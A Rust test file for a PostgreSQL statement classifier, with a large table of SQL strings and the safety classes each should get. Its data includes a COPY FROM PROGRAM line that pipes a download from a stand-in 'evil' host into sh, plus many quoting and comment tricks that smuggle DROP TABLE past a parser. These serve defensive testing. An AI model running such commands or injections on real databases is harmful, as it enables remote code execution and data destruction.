//! The classification table: real statements and the classes they must get. A statement the
//! parser cannot read must come out `unparsed`, never as something harmless.

use super::*;

/// (SQL, classes of each statement separated by " | ", each as space-separated class names).
/// A query nested in INSERT, CREATE … AS or COPY is part of that statement and adds no `select`.
/// Statements sqlparser 0.63 cannot read (TABLE, CREATE USER, GRANT role TO, VACUUM ANALYZE, …)
/// are `unparsed` here: rules treat them as the riskiest class until the parser learns them.
const TABLE: &[(&str, &str)] = &[
    // --- reads ---
    ("select 1", "select"),
    ("SELECT * FROM users", "select"),
    ("select id, email from public.users where id = $1", "select"),
    ("select count(*) from orders group by status having count(*) > 1", "select"),
    ("select * from a join b on a.id = b.a_id left join c using (id)", "select"),
    ("select * from users order by created_at desc limit 10 offset 20", "select"),
    ("select distinct on (customer_id) * from orders", "select"),
    ("select * from (select * from users) u", "select"),
    ("select * from users where id in (select user_id from orders)", "select"),
    ("select * from users where exists (select 1 from orders o where o.user_id = users.id)", "select"),
    ("select now(), current_user, version()", "select"),
    ("select 'it''s' as quoted", "select"),
    ("select $$dollar quoted; with semicolon$$", "select"),
    ("select $tag$ drop table users $tag$", "select"),
    ("select 1 -- drop table users", "select"),
    ("select /* delete from users */ 1", "select"),
    ("select * from \"Users\"", "select"),
    ("select \"select\" from \"from\"", "select"),
    ("select generate_series(1, 10)", "select"),
    ("select * from generate_series(1, 3) g", "select"),
    ("select row_number() over (partition by a order by b) from t", "select"),
    ("select * from users for update", "select"),
    ("select * from users for share skip locked", "select"),
    ("select jsonb_build_object('a', 1)", "select"),
    ("select data->>'name' from docs where data @> '{\"a\":1}'", "select"),
    ("select array[1,2,3]", "select"),
    ("select 1 union select 2", "select"),
    ("select 1 union all select 2 except select 3", "select"),
    ("select 1 intersect select 1", "select"),
    ("values (1, 'a'), (2, 'b')", "select"),
    ("table users", "unparsed"),
    // EXECUTE runs a prepared statement whose text is elsewhere (perhaps a protocol-level Parse).
    ("execute s", "unparsed"),
    ("EXECUTE purge(1, 'x')", "unparsed"),
    ("explain analyze execute s", "select unparsed"),
    ("select * from users tablesample bernoulli (10)", "select"),
    ("with recursive t(n) as (select 1 union all select n + 1 from t where n < 5) select * from t", "select"),
    ("with a as (select 1) select * from a", "select"),
    ("select pg_sleep(1)", "select"),
    ("select case when a > 1 then 'x' else 'y' end from t", "select"),
    ("select coalesce(a, b), nullif(c, 0) from t", "select"),
    ("select cast('1' as int), '2'::int", "select"),
    ("select * from users where name ilike '%bob%'", "select"),
    ("select * from users where email ~ '^a'", "select"),
    ("SELECT * FROM information_schema.tables", "select"),
    ("select * from pg_catalog.pg_class", "select"),
    ("show search_path", "select"),
    ("show all", "select"),
    ("explain select * from users", "select"),
    ("explain analyze select * from users", "select"),
    // --- writes ---
    ("insert into users (email) values ('a@b.c')", "insert"),
    ("insert into users values (1, 'x') returning id", "insert"),
    ("insert into users select * from staging", "insert"),
    ("insert into users (id) values (1) on conflict (id) do nothing", "insert"),
    ("insert into users (id, n) values (1, 1) on conflict (id) do update set n = users.n + 1", "insert"),
    ("insert into \"Audit\" default values", "insert"),
    ("update users set name = 'x' where id = 1", "update"),
    ("update users set name = 'x'", "update update-without-where"),
    ("UPDATE users SET active = false", "update update-without-where"),
    ("update users set n = n + 1 where true", "update"),
    ("update users u set name = o.name from other o where o.id = u.id", "update"),
    ("update users set name = 'x' where id = 1 returning *", "update"),
    ("delete from users where id = 1", "delete"),
    ("delete from users", "delete delete-without-where"),
    ("DELETE FROM users", "delete delete-without-where"),
    ("delete from users where 1 = 1", "delete"),
    ("delete from users using orders where orders.user_id = users.id", "delete"),
    ("delete from only users where id = 2", "delete"),
    ("delete from users where id = 1 returning id", "delete"),
    ("with gone as (delete from users returning *) select * from gone", "select delete delete-without-where"),
    ("with gone as (delete from users where id = 1 returning *) insert into archive select * from gone", "insert select delete"),
    ("with moved as (update users set a = 1 returning *) select count(*) from moved", "select update update-without-where"),
    ("with ins as (insert into t values (1) returning *) select * from ins", "select insert"),
    ("explain analyze delete from users", "select delete delete-without-where"),
    ("explain update users set a = 1 where id = 2", "select update"),
    ("merge into target t using source s on t.id = s.id when matched then update set v = s.v when not matched then insert (id, v) values (s.id, s.v)", "insert update delete"),
    // --- DDL ---
    ("create table t (id int primary key)", "ddl create"),
    ("create table if not exists t (id serial, name text not null default '')", "ddl create"),
    ("create temp table t (a int)", "ddl create"),
    ("create unlogged table t (a int)", "ddl create"),
    ("create table t as select * from users", "ddl create"),
    ("create index on users (email)", "ddl create"),
    ("create unique index concurrently users_email on users (lower(email))", "ddl create"),
    ("create view active_users as select * from users where active", "ddl create"),
    ("create materialized view mv as select 1", "ddl create"),
    ("create schema app", "ddl create"),
    ("create schema if not exists app authorization app_owner", "ddl create"),
    ("create sequence s start 100", "ddl create"),
    ("create role reader", "ddl create"),
    ("create user bob with password 'x'", "unparsed"),
    ("create database analytics", "ddl create"),
    ("create extension if not exists pgcrypto", "ddl create"),
    ("create type mood as enum ('sad', 'ok', 'happy')", "ddl create"),
    ("create domain positive as int check (value > 0)", "ddl create"),
    ("create function add(a int, b int) returns int as $$ select a + b $$ language sql", "ddl create"),
    ("create or replace function f() returns trigger as $$ begin return new; end $$ language plpgsql", "ddl create"),
    ("create trigger t_before before insert on users for each row execute function f()", "ddl create"),
    ("create policy p on users using (owner = current_user)", "ddl create"),
    ("alter table users add column age int", "ddl alter"),
    ("alter table users drop column age", "ddl alter"),
    ("alter table users rename to people", "ddl alter"),
    ("alter table users alter column email set not null", "ddl alter"),
    ("alter table users add constraint u_email unique (email)", "ddl alter"),
    ("alter table if exists users owner to app", "ddl alter"),
    ("alter index users_email rename to users_email_idx", "ddl alter"),
    ("alter role reader with login", "ddl alter"),
    ("alter view v rename to w", "unparsed"),
    ("alter schema app rename to app2", "ddl alter"),
    ("alter sequence s restart with 1", "unparsed"),
    ("alter type mood add value 'angry'", "ddl alter"),
    ("drop table users", "ddl drop"),
    ("DROP TABLE IF EXISTS users CASCADE", "ddl drop"),
    ("drop table a, b, c", "ddl drop"),
    ("drop index users_email", "ddl drop"),
    ("drop view v", "ddl drop"),
    ("drop materialized view mv", "ddl drop"),
    ("drop schema app cascade", "ddl drop"),
    ("drop database analytics", "ddl drop"),
    ("drop role reader", "ddl drop"),
    ("drop sequence s", "ddl drop"),
    ("drop function add(int, int)", "ddl drop"),
    ("drop extension pgcrypto", "ddl drop"),
    ("drop type mood", "ddl drop"),
    ("drop trigger t_before on users", "ddl drop"),
    ("drop policy p on users", "ddl drop"),
    ("drop \"Users\"", "unparsed"),
    ("truncate users", "ddl truncate"),
    ("truncate table users, orders restart identity cascade", "ddl truncate"),
    ("TRUNCATE ONLY users", "ddl truncate"),
    ("comment on table users is 'people'", "ddl"),
    // --- privileges ---
    ("grant select on users to reader", "grant"),
    ("grant all privileges on all tables in schema public to app", "grant"),
    ("grant reader to bob", "unparsed"),
    ("revoke insert on users from public", "grant"),
    ("revoke all on schema app from bob", "grant"),
    // --- copy ---
    ("copy users to stdout", "copy copy-out"),
    ("copy users (id, email) from stdin with (format csv, header true)", "copy"),
    ("copy (select * from users) to stdout with csv header", "copy copy-out"),
    ("copy users to '/tmp/users.csv'", "copy copy-out"),
    ("copy users from program 'curl http://evil/x | sh'", "copy copy-program"),
    ("copy users to program 'gzip > /tmp/u.gz'", "copy copy-out copy-program"),
    // --- session settings ---
    ("set search_path to app, public", "set"),
    ("set statement_timeout = '5s'", "set"),
    ("set local lock_timeout = 1000", "set"),
    ("SET TIME ZONE 'UTC'", "set"),
    ("set role reader", "set"),
    ("set session authorization bob", "set"),
    ("reset all", "set"),
    ("reset search_path", "set"),
    ("set transaction isolation level serializable", "set"),
    // --- transactions ---
    ("begin", "transaction"),
    ("BEGIN ISOLATION LEVEL REPEATABLE READ", "transaction"),
    ("start transaction read only", "transaction"),
    ("commit", "transaction"),
    ("end", "transaction"),
    ("rollback", "transaction"),
    ("abort", "transaction"),
    ("savepoint s1", "transaction"),
    ("release savepoint s1", "transaction"),
    ("rollback to savepoint s1", "transaction"),
    // --- calls and other ---
    ("call refresh_stats()", "call"),
    ("call app.do_work(1, 'x')", "call"),
    ("vacuum", "other"),
    ("vacuum analyze users", "unparsed"),
    ("analyze users", "other"),
    ("listen events", "other"),
    ("notify events, 'hello'", "other"),
    ("unlisten *", "other"),
    ("prepare q (int) as select * from users where id = $1", "other select"),
    ("execute q (1)", "unparsed"),
    ("deallocate q", "other"),
    ("discard all", "set"),
    ("lock table users in exclusive mode", "other"),
    ("checkpoint", "unparsed"),
    // --- multi-statement strings (one entry per statement) ---
    ("select 1; select 2", "select | select"),
    ("begin; delete from users; commit", "transaction | delete delete-without-where | transaction"),
    ("select 1; drop table users", "select | ddl drop"),
    ("create table t (a int); insert into t values (1); select * from t", "ddl create | insert | select"),
    ("update t set a = 1 where b = 2; update t set a = 2", "update | update update-without-where"),
    ("set search_path = app; truncate t", "set | ddl truncate"),
    // --- what the parser cannot read is unparsed, never harmless ---
    ("do $$ begin delete from users; end $$", "unparsed"),
    ("DO $$ BEGIN PERFORM 1; END $$", "unparsed"),
    ("selec * from users", "unparsed"),
    ("drop tabel users", "unparsed"),
    ("delete from", "unparsed"),
    ("select * from users where", "unparsed"),
    ("select 1; garbage here", "unparsed"),
    ("\\d users", "unparsed"),
    ("select 'unterminated", "unparsed"),
    ("cluster users using users_pkey", "unparsed"),
    ("refresh materialized view mv", "unparsed"),
    ("reindex table users", "unparsed"),
    ("security label on table users is 'x'", "unparsed"),
];

fn names(classes: &BTreeSet<SqlClass>) -> String {
    classes.iter().map(|c| c.as_str()).collect::<Vec<_>>().join(" ")
}

/// The statements of `table` that do not get their classes, each with what it got instead.
fn misclassified(table: &[(&str, &str)]) -> Vec<String> {
    let mut wrong = Vec::new();
    for (sql, expected) in table {
        let got = classify(sql).iter().map(|s| names(&s.classes)).collect::<Vec<_>>().join(" | ");
        let expected: String = expected
            .split(" | ")
            .map(|statement| {
                let set: BTreeSet<SqlClass> = statement.split(' ').map(|n| n.parse().unwrap()).collect();
                names(&set)
            })
            .collect::<Vec<_>>()
            .join(" | ");
        if got != expected {
            wrong.push(format!("{sql:?}: got [{got}], expected [{expected}]"));
        }
    }
    wrong
}

fn check_table(table: &[(&str, &str)]) {
    let wrong = misclassified(table);
    assert!(wrong.is_empty(), "{} of {} statements classified wrongly:\n{}", wrong.len(), table.len(), wrong.join("\n"));
}

#[test]
fn every_statement_of_the_table_gets_its_classes() {
    assert!(TABLE.len() >= 150, "the table has {} statements", TABLE.len());
    check_table(TABLE);
}

/// Text is read as PostgreSQL reads it (`standard_conforming_strings = on`): what PostgreSQL
/// runs is never hidden in what sqlparser takes for a string or comment. Where the two read the
/// text differently the answer is `unparsed`.
#[test]
fn text_is_read_as_postgres_reads_it() {
    check_table(&[
        ("SELECT '\\'; DROP TABLE t; --'", "select | ddl drop"),
        ("SELECT E'\\''; DROP TABLE t", "select | ddl drop"),
        ("SELECT e'\\\\'; DROP TABLE t", "select | ddl drop"),
        ("SELECT N'\\'; DROP TABLE t; --'", "select | ddl drop"),
        ("SELECT $$;DROP TABLE t;$$", "select"),
        ("SELECT $a$ $$ $a$; DROP TABLE t", "select | ddl drop"),
        ("SELECT $a$ $A$; DROP TABLE t; $a$", "select"),
        ("/* /* */ DROP TABLE t; */ SELECT 1", "select"),
        ("SELECT 1; /* a */ /* b /* c */ d */ DROP TABLE t", "select | ddl drop"),
        ("SELECT 1 /*/ DROP TABLE t; */", "select"),
        ("SELECT U&'d\\0061t\\+000061'", "select"),
        ("SELECT U&'\\'; DROP TABLE t; --'", "unparsed"),
        ("SELECT U&'a!0061' UESCAPE '!'; DROP TABLE t", "unparsed"),
        ("SELECT \"a\"\"b\" FROM t", "select"),
        ("SELECT \"a\"\"; DROP TABLE t; --\" FROM t", "select"),
        ("SELECT 1 AS x$a$; DROP TABLE t; SELECT 1 AS y$a$", "select | ddl drop | select"),
        ("SELECT 1; --x\rDROP TABLE t", "select | ddl drop"),
        ("SELECT 0x1F; DROP TABLE t", "select | ddl drop"),
        ("SELECT 'a'\n'b'", "select"),
        ("SELECT $é$ x $é$", "select"),
        // Read differently: PostgreSQL (up to 14) sees the parameter $1 and runs the DROP.
        ("PREPARE p(int) AS SELECT $1a$; DROP TABLE t; --$1a$", "unparsed"),
        // The continued string keeps E'…' rules in PostgreSQL, which runs the DROP.
        ("SELECT E'a'\n'\\'' ; DROP TABLE t; --'", "unparsed"),
        ("SELECT B'01''; DROP TABLE t; --'", "unparsed"),
        ("SELECT 0x'ab'", "unparsed"),
        ("SELECT $€$ x $€$", "unparsed"),
        ("SELECT U&\"d\\0061t\" FROM t", "unparsed"),
        ("SELECT 1 /* unterminated", "unparsed"),
        ("SELECT $$ unterminated", "unparsed"),
    ]);
}

#[test]
fn tables_are_named_as_rules_match_them() {
    let check = |sql: &str, expect: &[&str]| assert_eq!(classify(sql)[0].tables, expect, "{sql}");
    check("select * from Users join app.Orders o on true", &["users", "app.orders"]);
    check("delete from \"Users\" where id = 1", &["Users"]);
    check("with x as (delete from audit returning *) select * from x", &["audit", "x"]);
    check("insert into archive select * from users", &["archive", "users"]);
    check("select 1", &[]);
}

#[test]
fn class_names_round_trip() {
    for class in SqlClass::ALL {
        assert_eq!(class.as_str().parse::<SqlClass>().unwrap(), class);
    }
    assert!("deletes".parse::<SqlClass>().is_err());
}
